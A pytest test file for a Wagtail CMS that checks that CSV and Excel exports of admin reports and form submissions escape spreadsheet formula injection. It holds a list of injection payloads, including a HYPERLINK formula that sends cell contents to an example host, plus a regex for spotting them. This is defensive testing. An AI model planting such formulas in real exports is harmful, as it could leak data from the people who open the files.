"""Every list and report that can be downloaded: no text in it is a formula."""

from __future__ import annotations

import csv
import re
from io import BytesIO, StringIO

import pytest
from django.contrib.auth.models import User
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import ModelLogEntry, Page, PageLogEntry

from pages.models import FormField, Organisation, Person
from tests import factories
from tests.cms.admin.test_every_view import admin_views
from tests.cms.admin_content import make_content

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.filterwarnings("ignore:unclosed file:ResourceWarning"),
]

FORMULA = '=HYPERLINK("https://example.org/"&A1)'
FORMULAS = [
    FORMULA,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "＝1+1",  # noqa: RUF001
    "harmless;=1+1",
    "harmless\n=1+1",
    "harmless\r\n+1",
]
RUNS = re.compile(r"(^|[;\t\r\n])\s*[=+\-@＝＋－＠]")  # noqa: RUF001


def exports():
    """The names of views that make spreadsheets and are about no single thing."""
    for name, pattern in admin_views():
        view = getattr(pattern.callback, "view_class", object)
        listed = getattr(pattern.callback, "view_initkwargs", {}).get("list_export")
        takes = getattr(pattern.pattern, "converters", {})
        listed = listed or getattr(view, "list_export", None)
        if issubclass(view, SpreadsheetExportMixin) and listed and not takes:
            yield name


@pytest.fixture
def formulas_everywhere(db):
    content = make_content()
    Page.objects.exclude(depth=1).update(title=FORMULA, draft_title=FORMULA)
    for model in (Person, Organisation):
        model.objects.update(name=Concat(Value(FORMULA), Cast("pk", CharField())))
    User.objects.exclude(username="rita").update(first_name=FORMULA, last_name="@SUM(1)")
    Redirect.objects.update(old_path=FORMULA, redirect_link=FORMULA, redirect_page=None)
    log(factories.person(name=FORMULA), "wagtail.edit", user=content.people["superuser"])
    for entries in (PageLogEntry, ModelLogEntry):
        entries.objects.update(label=FORMULA)
    return content


def test_texts_in_every_list_and_report_are_no_formulas(formulas_everywhere, sign_in):
    browser = sign_in(formulas_everywhere.people["superuser"])
    found: dict[str, list[str]] = {}

    for name in exports():
        answers = [browser.get(reverse(name), {"export": kind}) for kind in ("csv", "xlsx")]
        texts = cells_of_csv(answers[0])
        found[name] = [text for text in texts if RUNS.search(text)]
        assert all(cell.data_type != "f" for cell in cells_of_workbook(answers[1]))

    assert {name: cells for name, cells in found.items() if cells} == {}
    assert {
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:workflow",
        "wagtailredirects:index",
    } <= found.keys()


@pytest.fixture
def answers(home_page):
    """What readers answered a form whose question looks like a formula as well."""
    question = FormField(label="=1+1", field_type="multiline")
    form = factories.form_page(form_fields=[question])
    field = form.form_fields.get()
    for text in FORMULAS:
        factories.submission(form, **{field.clean_name: text})
    return form


def export(form, browser, kind):
    address = reverse("wagtailforms:list_submissions", args=[form.pk])
    return browser.get(address, {"export": kind})


def test_answers_of_readers_are_no_formulas_in_csv(answers, editor, sign_in):
    texts = cells_of_csv(export(answers, sign_in(editor), "csv"))

    assert [text for text in texts if RUNS.search(text)] == []
    assert f"'{FORMULA}" in texts
    assert "'=1+1" in texts
    assert "harmless;'=1+1" in texts


def test_answers_of_readers_are_texts_as_they_were_in_a_workbook(answers, editor, sign_in):
    cells = cells_of_workbook(export(answers, sign_in(editor), "xlsx"))

    assert {cell.data_type for cell in cells} <= {"s", "d", "n"}
    assert {FORMULA, "=1+1", "@SUM(1)"} <= {cell.value for cell in cells}


def test_signs_that_no_workbook_holds_are_left_out(answers, editor, sign_in):
    field = answers.form_fields.get()
    factories.submission(answers, **{field.clean_name: "A bell\x07."})

    cells = cells_of_workbook(export(answers, sign_in(editor), "xlsx"))

    assert "A bell." in {cell.value for cell in cells}


def cells_of_csv(answer):
    assert answer.status_code == 200
    text = b"".join(answer).decode()
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def cells_of_workbook(answer):
    assert answer.status_code == 200
    book = load_workbook(BytesIO(b"".join(answer)))
    return [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
